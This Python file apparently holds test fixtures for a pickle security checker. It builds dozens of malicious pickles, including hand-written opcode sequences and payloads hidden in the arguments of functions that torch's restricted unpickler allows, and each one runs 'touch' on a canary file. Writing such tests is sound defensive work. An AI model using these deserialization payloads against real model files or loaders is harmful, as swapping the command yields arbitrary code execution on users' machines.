"""Harmful pickles: each creates its canary file when it is unpickled."""

from __future__ import annotations

import bz2
import codecs
import ctypes
import functools
import gzip
import heapq
import importlib
import io
import itertools
import logging
import lzma
import mailbox
import marshal
import operator
import os
import pathlib
import pickle
import profile
import pty
import py_compile
import runpy
import shlex
import shutil
import subprocess
import tarfile
import timeit
import zipfile
from code import InteractiveInterpreter
from pathlib import Path

import numpy as np
import torch
import torch.fx.graph_module
import torch.utils.collect_env


class Call:
    """An object that is pickled as a call of `function`; unpickling makes the call. The arguments may be calls too."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.call = function, arguments

    def __call__(self) -> None:
        """Do nothing; pickle needs a callable if the function is itself a call."""

    def __reduce__(self) -> tuple[object, ...]:
        return self.call


def fragment(value: object, protocol: int = 2) -> bytes:
    """Return the opcodes of protocol 2 or 3 that leave `value` on the stack, without the pickle's start and end."""
    return pickle.dumps(value, protocol, fix_imports=False)[2:-1]


def written(path: Path, data: bytes) -> str:
    path.write_bytes(data)
    return str(path)


def calls(canary: Path) -> dict[str, object]:
    """Return harmful calls by name: of system, Python and library functions, direct and indirect."""
    c, touch = str(canary), ["touch", str(canary)]
    shell, code = shlex.join(touch), f"open({str(canary)!r}, 'w').close()"
    partial, inner = functools.partial, pickle.dumps(Call(open, c, "w"))
    other, script = written(canary.with_suffix(".other"), inner), written(canary.with_suffix(".py"), code.encode())
    return {
        **{f"os.{f.__name__}": Call(f, c) for f in (os.mkdir, os.makedirs, os.mkfifo, os.mknod)},
        **{f"os.{f.__name__}": Call(f, other, c) for f in (os.link, os.rename, os.replace, os.symlink)},
        **{f"os.{f.__name__}": Call(f, shell) for f in (os.system, os.popen)},
        "os.open": Call(os.open, c, os.O_CREAT),
        "os.spawnvp": Call(os.spawnvp, os.P_WAIT, "touch", touch),
        "os.posix_spawnp": Call(os.posix_spawnp, "touch", touch, {}),
        "pty.spawn": Call(pty.spawn, touch),
        **{f"subprocess.{f.__name__}": Call(f, shell) for f in (subprocess.getoutput, subprocess.getstatusoutput)},
        "subprocess.Popen": Call(subprocess.Popen, touch),
        "subprocess.run": Call(subprocess.run, touch),
        "subprocess.call": Call(subprocess.call, touch),
        "subprocess.check_output": Call(partial(subprocess.check_output, touch, shell=False)),
        **{f"builtins.{f.__name__}": Call(f, code) for f in (exec, eval)},
        "builtins.compile": Call(exec, Call(compile, code, "x", "exec")),
        "builtins.__import__": Call(Call(getattr, Call(__import__, "os"), "system"), shell),
        "builtins.map": Call(list, Call(map, os.system, [shell])),
        "builtins.filter": Call(tuple, Call(filter, exec, [code])),
        "builtins.zip": Call(dict, Call(zip, "a", Call(map, eval, [code]))),
        **{f"{f.__module__}.open": Call(f, c, "w") for f in (open, gzip.open, bz2.open, lzma.open, codecs.open)},
        "tarfile.open": Call(tarfile.TarFile, c, "w"),
        "zipfile.ZipFile": Call(zipfile.ZipFile, c, "w"),
        "io.FileIO": Call(io.FileIO, c, "w"),
        "logging.FileHandler": Call(logging.FileHandler, c),
        "logging.basicConfig": Call(partial(logging.basicConfig, filename=c, force=True)),
        **{f"mailbox.{f.__name__}": Call(f, c) for f in (mailbox.mbox, mailbox.Maildir)},
        **{f"shutil.{f.__name__}": Call(f, other, c) for f in (shutil.copy, shutil.copyfile, shutil.move)},
        "pathlib.Path.touch": Call(pathlib.Path.touch, canary),
        "pathlib.Path.write_text": Call(operator.methodcaller("write_text", "x"), canary),
        "py_compile.compile": Call(py_compile.compile, script, c),
        "runpy.run_path": Call(runpy.run_path, script),
        "runpy._run_code": Call(runpy._run_code, Call(compile, code, "x", "exec"), {}),
        "importlib.import_module": Call(operator.methodcaller("system", shell), Call(importlib.import_module, "os")),
        "operator.attrgetter": Call(Call(operator.attrgetter("system"), Call(__import__, "os")), shell),
        "operator.call": Call(operator.call, os.system, shell),
        "functools.partial": Call(partial(os.system, shell)),
        "functools.partial chain": Call(partial(partial(partial(exec), code), {})),
        "functools.partial of partial": Call(partial(functools.reduce, partial(exec)), [code, {}]),
        "functools.reduce": Call(functools.reduce, exec, [code, {}]),
        "functools.cached_property": Call(functools.cached_property(exec).func, code),
        "itertools.starmap": Call(list, Call(itertools.starmap, os.system, [(shell,)])),
        "itertools.accumulate": Call(list, Call(itertools.accumulate, [code, {}], exec)),
        "heapq.nsmallest": Call(heapq.nsmallest, 1, [shell], os.system),
        "timeit.timeit": Call(timeit.timeit, "pass", code),
        "profile.run": Call(profile.run, code),
        "code.InteractiveInterpreter": Call(InteractiveInterpreter.runsource, Call(InteractiveInterpreter), code),
        "marshal.loads": Call(exec, Call(marshal.loads, marshal.dumps(compile(code, "x", "exec")))),
        "ctypes.CDLL": Call(Call(getattr, Call(ctypes.CDLL, None), "system"), shell.encode()),
        **{f"pickle.{f.__name__}": Call(f, inner) for f in (pickle.loads, pickle._loads)},
        "pickle.load": Call(pickle.load, Call(open, other, "rb")),
        "pickle.Unpickler": Call(operator.methodcaller("load"), Call(pickle.Unpickler, Call(io.BytesIO, inner))),
        "torch.load of another file": Call(partial(torch.load, other, weights_only=False)),
        "torch.storage._load_from_bytes": Call(torch.storage._load_from_bytes, inner),
        "torch.save": Call(torch.save, 1, c),
        "torch.from_file": Call(torch.from_file, c, True, 4),
        "torch.hub._import_module": Call(torch.hub._import_module, "evil", script),
        "torch.hub.load": Call(partial(torch.hub.load, _hub(canary, code), "evil", source="local")),
        "torch.fx": Call(torch.fx.graph_module._exec_with_source, code, {}),
        "torch.utils.collect_env.run": Call(torch.utils.collect_env.run, shell),
        "numpy.load": Call(partial(np.load, other, allow_pickle=True)),
        "numpy.savetxt": Call(np.savetxt, c, [1]),
        "numpy.ndarray.tofile": Call(operator.methodcaller("tofile", c), np.zeros(1)),
        "numpy.testing.runstring": Call(np.testing.runstring, code, {}),
    }


def _hub(canary: Path, code: str) -> str:
    folder = canary.with_suffix(".hub")
    folder.mkdir(exist_ok=True)
    written(folder / "hubconf.py", f"{code}\ndef evil():\n    pass\n".encode())
    return str(folder)


def opcodes(canary: Path) -> dict[str, bytes]:
    """Return a harmful call by each group of opcodes that can make one, written by hand."""
    shell = fragment(shlex.join(["touch", str(canary)]))
    system, bag, file = b"cos\nsystem\n", b"cargparse\nNamespace\n)\x81", fragment(str(canary))
    armed = {name: bag + b"}" + fragment(name) + system + b"sb" for name in ("__setstate__", "append", "add")}
    return {
        "GLOBAL, REDUCE": system + shell + b"\x85R",
        "STACK_GLOBAL": b"\x8c\x05posix\x8c\x06system\x93" + shell + b"\x85R",
        "STACK_GLOBAL with dots": b"\x8c\x13torch.serialization\x8c\x09os.system\x93" + shell + b"\x85R",
        "GLOBAL with dots": b"ctorch.serialization\nos.system\n" + shell + b"\x85R",
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + system + shell + b"o",
        "NEWOBJ": b"cnumpy\nmemmap\n" + fragment((str(canary), "u1", "w+", 0, 1)) + b"\x81",
        "NEWOBJ_EX": b"cnumpy\nmemmap\n" + file + b"\x85" + fragment({"mode": "w+", "shape": 1}) + b"\x92",
        "BUILD": armed["__setstate__"] + shell + b"b",
        "BUILD of OrderedDict": b"ccollections\nOrderedDict\n)R}" + fragment("__setstate__") + system + b"sb" + shell + b"b",
        "APPEND": armed["append"] + shell + b"a",
        "APPENDS": armed["append"] + b"(" + shell + b"e",
        "ADDITEMS": armed["add"] + b"(" + shell + b"\x90",
        "EXT1": b"ccopyreg\nadd_extension\n" + fragment(("os", "system", 200)) + b"R0\x82\xc8" + shell + b"\x85R",
        "memo": system + b"r\xff\xff\0\0" + b"0" + b"j\xff\xff\0\0" + shell + b"\x85R",
        "DUP": system + b"20" + shell + b"\x85R",
        "BINPERSID": system + shell + b"\x85RQ",
        "BINPERSID of a storage": b"(" + fragment("storage") + system + shell + b"\x85R" + fragment(("0", "cpu", 1)) + b"tQ",
    }


ALLOWED = [
    "torch._utils._rebuild_tensor",
    "torch._utils._rebuild_tensor_v2",
    "torch._utils._rebuild_tensor_v3",
    "torch._utils._rebuild_parameter",
    "torch._utils._rebuild_parameter_with_state",
    "torch._utils._rebuild_qtensor",
    "torch._utils._rebuild_sparse_tensor",
    "torch._utils._rebuild_nested_tensor",
    "torch._utils._rebuild_wrapper_subclass",
    "torch._utils._rebuild_meta_tensor_no_storage",
    "torch._utils._rebuild_device_tensor_from_numpy",
    "torch._utils._rebuild_device_tensor_from_cpu_tensor",
    "torch._tensor._rebuild_from_type_v2",
    "torch.nn.parameter.Parameter",
    "torch.Tensor",
    "torch.Size",
    "torch.device",
    "torch.FloatStorage",
    "torch.serialization._get_layout",
    "collections.OrderedDict",
    "collections.Counter",
    "_codecs.encode",
    "builtins.set",
    "builtins.bytearray",
    "builtins.complex",
    "numpy.core.multiarray._reconstruct",
    "numpy.core.multiarray.scalar",
    "numpy._core.multiarray._reconstruct",
    "numpy.dtype",
    "numpy.ndarray",
]


LAZY = ("torch.Size", "collections.OrderedDict", "collections.Counter", "builtins.set", "builtins.bytearray")


def abused(canary: Path) -> dict[str, bytes]:
    """Return calls hidden in the arguments of functions that torch's restricted unpickler allows, and of numpy's."""
    shell = shlex.join(["touch", str(canary)])
    bomb, lazy = fragment(Call(os.system, shell)), fragment(Call(map, os.system, [shell]))
    heads = {name: "c{0}\n{2}\n".format(*name.rpartition(".")).encode() for name in ALLOWED}
    array = heads["numpy.core.multiarray._reconstruct"] + fragment((np.ndarray, (0,), b"b")) + b"R"
    return {
        **{f"argument of {name}": head + bomb + b"\x85R" for name, head in heads.items()},
        **{f"consumed by {name}": heads[name] + lazy + b"\x85R" for name in LAZY},
        "function of a rebuilt type": heads["torch._tensor._rebuild_from_type_v2"]
        + fragment((os.system, torch.Tensor, (shell,), None))
        + b"R",
        "state of OrderedDict": heads["collections.OrderedDict"] + b")R}" + fragment("a") + bomb + b"sb",
        "state of an array": array + b"(K\x01K\x01\x85" + fragment(np.dtype("O")) + b"\x89]" + bomb + b"atb",
    }
